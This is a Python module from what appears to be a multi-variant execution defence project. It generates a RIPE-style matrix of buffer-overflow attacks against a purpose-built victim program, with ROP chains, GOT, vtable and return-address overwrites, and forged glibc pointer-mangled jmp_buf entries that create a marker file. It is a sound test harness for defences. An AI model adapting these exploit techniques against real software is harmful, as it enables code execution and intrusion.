"""T13: attacks generated from a matrix, as RIPE does: where the overflow happens, what it aims at,
how it gets there, and what is executed then.

Natively impossible are direct overflows into what does not lie behind the buffer: return addresses
from anywhere but the stack, and the GOT from everywhere (it lies before the program's data).
"""

from __future__ import annotations

import itertools
import struct
import time
from collections.abc import Iterator
from typing import Final, NamedTuple

from mvx.attacks.victim import Victim, offset, words

LOCATIONS: Final = ("stack", "heap", "bss", "data")
TARGETS: Final = ("return", "function", "longjmp", "vtable", "got")
TECHNIQUES: Final = ("direct", "indirect")
PAYLOADS: Final = ("function", "libc", "rop")
FLAGS: Final = ("-fno-stack-protector", "-Wl,-z,norelro", "-Wl,-z,lazy")

_EFFECT_S: Final = 5.0
_POINTER, _FUNCTION, _TABLE, _JUMP = 256, 264, 272, 280
"""Offsets in `struct object` of sources/matrix.c."""
_SIZE: Final = 480
_FAKE_TABLE: Final = 192
_ROOM: Final = (1 << 15) + 8
"""A stack pointer in the program's `room`, as after a call."""
_CHAIN: Final = 0
_JUMP_RBX, _JUMP_RSP, _JUMP_PC = 0, 48, 56
"""Offsets in glibc's jmp_buf (sysdeps/x86_64/jmpbuf-offsets.h): eight words, of which rbp, rsp and
the address are mangled with the pointer guard.
"""
_MARKER: Final = b"marker\0\0"


class Cell(NamedTuple):
    """One attack of the matrix."""

    location: str
    target: str
    technique: str
    payload: str

    @property
    def name(self) -> str:
        """The cell in a word."""
        return "-".join(self)

    @property
    def meaning(self) -> str:
        """The cell in a sentence."""
        return f"{self.location}, {self.target}, {self.technique}, {self.payload}"

    @property
    def is_possible(self) -> bool:
        """Whether an overflow from there, done so, can reach the target at all."""
        reach = {"return": self.location == "stack", "got": False}
        return self.technique == "indirect" or reach.get(self.target, True)

    @property
    def needs(self) -> frozenset[str]:
        """The diversifications that make differ what the attacker has to know."""
        place = {"stack": "stack", "heap": "heap"}.get(self.location, "layout")
        needs = {"layout", "other-files"}
        if self.technique == "indirect":
            needs.add({"return": "stack", "got": "layout"}.get(self.target, place))
        if self.target == "longjmp":
            needs.add("canary")
        if self.target == "vtable" or (self.target == "longjmp" and self.payload == "rop"):
            needs.add(place)
        return frozenset(needs)

    def attack(self, victim: Victim) -> None:
        """Overflow the buffer, and write through the pointer behind it."""
        start, return_address, guard = struct.unpack(
            "<QQQ", victim.memory(victim.symbol("facts"), 24)
        )
        library = victim.base("/libc.so.6")
        creat, leave = (library + offset(victim.library(), name) for name in ("creat", "_exit"))
        gadgets = ("pop_rdi", "pop_rsi", "pivot", "nothing", "win", "marker")
        pop_rdi, pop_rsi, pivot, nothing, win, marker = map(victim.symbol, gadgets)
        chain = words(pop_rdi, marker, pop_rsi, 0o666, creat, pop_rdi, 0, leave)

        buffer = bytearray(_SIZE)
        entry = {"function": win, "libc": creat, "rop": pivot}[self.payload]
        if self.payload == "rop" and self.target != "return":
            buffer[_CHAIN : _CHAIN + len(chain)] = chain
        else:
            buffer[: len(_MARKER)] = _MARKER
        if self.target == "return":
            aim, content = return_address, chain if self.payload == "rop" else words(entry)
        elif self.target == "function":
            aim, content = start + _FUNCTION, words(entry)
        elif self.target == "vtable":
            buffer[_FAKE_TABLE : _FAKE_TABLE + 8] = words(entry)
            aim, content = start + _TABLE, words(start + _FAKE_TABLE)
        elif self.target == "got":
            aim, content = victim.base(victim.program.name) + victim.got("strpbrk"), words(entry)
        else:
            top = start if self.payload == "rop" else victim.symbol("room") + _ROOM
            place = nothing if self.payload == "rop" else entry
            jump = bytearray(64)
            jump[_JUMP_RBX : _JUMP_RBX + 8] = _MARKER
            jump[_JUMP_RSP : _JUMP_RSP + 8] = words(_mangled(top, guard))
            jump[_JUMP_PC : _JUMP_PC + 8] = words(_mangled(place, guard))
            aim, content = start + _JUMP, bytes(jump)

        if self.technique == "direct":
            end = aim - start + len(content)
            buffer.extend(bytes(max(0, end - len(buffer))))
            buffer[aim - start : end] = content
            del buffer[end:]
            buffer[_POINTER : _POINTER + 8] = words(start + 200)
            first, second = bytes(buffer[:end]), b""
        else:
            first, second = bytes(buffer[:_POINTER]) + words(aim), content
        victim.tell(struct.pack("<HH", len(first), len(second)) + first + second)


def _mangled(value: int, guard: int) -> int:
    """PTR_MANGLE of glibc (sysdeps/unix/sysv/linux/x86_64/pointer_guard.h)."""
    value ^= guard
    return (value << 17 | value >> 47) & 0xFFFF_FFFF_FFFF_FFFF


def cells() -> Iterator[Cell]:
    """All that are possible natively."""
    for words_of_it in itertools.product(LOCATIONS, TARGETS, TECHNIQUES, PAYLOADS):
        cell = Cell(*words_of_it)
        if cell.is_possible:
            yield cell


def made_marker(victim: Victim) -> bool:
    """Whether the file that the attack wants is there, once the victim has ended."""
    end = time.monotonic() + _EFFECT_S
    while victim.is_running and time.monotonic() < end:
        time.sleep(0.005)
    return (victim.place / "marker").exists()
